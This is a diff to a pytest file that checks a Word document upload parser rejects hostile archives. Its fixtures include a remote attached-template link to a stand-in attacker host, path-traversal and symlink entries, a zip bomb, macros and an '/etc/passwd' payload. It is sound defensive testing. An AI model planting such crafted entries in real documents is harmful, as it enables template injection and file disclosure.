@@ -2,6 +2,8 @@
 """Word files: what readers see, and what must not get in."""
 
 import io
+import stat
+import warnings
 import zipfile
 
 import pytest
@@ -9,6 +11,7 @@ import pytest
 from content.plans.domain import errors
 from content.plans.domain.parse import NodeKind
 from content.plans.domain.pipeline import parse_bytes
+from portal.foundation.files.domain import ArchiveRefused, FileRefused, ParserFailed
 
 NUMBERING = """
 <w:abstractNum w:abstractNumId="0">
@@ -151,6 +154,28 @@ def lying_bomb():
     return bytes(data)
 
 
+TEMPLATE = (
+    b'<Relationships><Relationship Id="1" Type="http://x/attachedTemplate" '
+    b'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
+)
+
+
+def link(name):
+    """An entry that is a symbolic link."""
+    info = zipfile.ZipInfo(name)
+    info.create_system = 3
+    info.external_attr = (stat.S_IFLNK | 0o777) << 16
+    return info
+
+
+def with_entry(word, entry, content=b"/etc/passwd"):
+    buffer = io.BytesIO(word.docx(word.paragraph("一")))
+    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
+        warnings.simplefilter("ignore")  # about the name that is there twice
+        archive.writestr(entry, content)
+    return buffer.getvalue()
+
+
 def flagged_encrypted(data):
     """The central directory says the first entry is encrypted."""
     data = bytearray(data)
@@ -164,16 +189,23 @@ def flagged_encrypted(data):
     [
         (lambda w: b"", errors.EmptyDocument),
         (lambda w: "一、总则".encode(), errors.WrongExtension),
-        (lambda w: b"PK\x03\x04 broken", errors.CorruptDocument),
-        (lambda w: w.docx("")[:-40], errors.CorruptDocument),
+        (lambda w: b"PK\x03\x04 broken", ParserFailed),
+        (lambda w: w.docx("")[:-40], ParserFailed),
         (lambda w: w.docx("", document="<w:document"), errors.CorruptDocument),
-        (lambda w: w.docx("", document=ENTITY + f"<w:document {w.W}>&a;</w:document>"), errors.DangerousXml),
+        (lambda w: w.docx("", document=ENTITY + f"<w:document {w.W}>&a;</w:document>"), ArchiveRefused),
         (lambda w: w.docx("", document=f"<w:document {w.W}/>"), errors.CorruptDocument),
-        (lambda w: w.docx(w.paragraph("一"), extra={"word/vbaProject.bin": b"x"}), errors.MacroDocument),
-        (lambda w: flagged_encrypted(w.docx(w.paragraph("一"))), errors.EncryptedDocument),
-        (lambda w: bomb(), errors.ZipBomb),
+        (lambda w: w.docx(w.paragraph("一"), extra={"word/vbaProject.bin": b"x"}), ArchiveRefused),
+        (lambda w: flagged_encrypted(w.docx(w.paragraph("一"))), ArchiveRefused),
+        (lambda w: bomb(), ArchiveRefused),
         (lambda w: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), errors.EncryptedDocument),
         (lambda w: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"WordDocument", errors.LegacyWord),
+        (lambda w: with_entry(w, link("word/link")), ArchiveRefused),
+        (lambda w: with_entry(w, "../../evil.xml"), ArchiveRefused),
+        (lambda w: with_entry(w, "word/document.xml"), ArchiveRefused),
+        (lambda w: with_entry(w, "word/embeddings/sheet.xlsx"), ArchiveRefused),
+        (lambda w: with_entry(w, "word/embeddings/object.bin", b"PK\x03\x04x"), ArchiveRefused),
+        (lambda w: with_entry(w, "word/_rels/settings.xml.rels", TEMPLATE), ArchiveRefused),
+        (lambda w: with_entry(w, "word/media/a.bmp", b"\0" * 1024**2), ArchiveRefused),
         (lambda w: w.docx(w.paragraph("  ")), errors.EmptyDocument),
         (lambda w: w.docx("<w:sdt>" * 200 + w.paragraph("一") + "</w:sdt>" * 200), errors.CorruptDocument),
     ],
@@ -185,7 +217,7 @@ def test_what_is_no_honest_word_file_is_refused_in_words(word, make, refusal):
 
 
 def test_a_part_that_unpacks_to_more_than_it_says_is_refused():
-    with pytest.raises((errors.ZipBomb, errors.CorruptDocument)):
+    with pytest.raises(FileRefused):
         parse_bytes(lying_bomb(), "plan.docx")
 
 
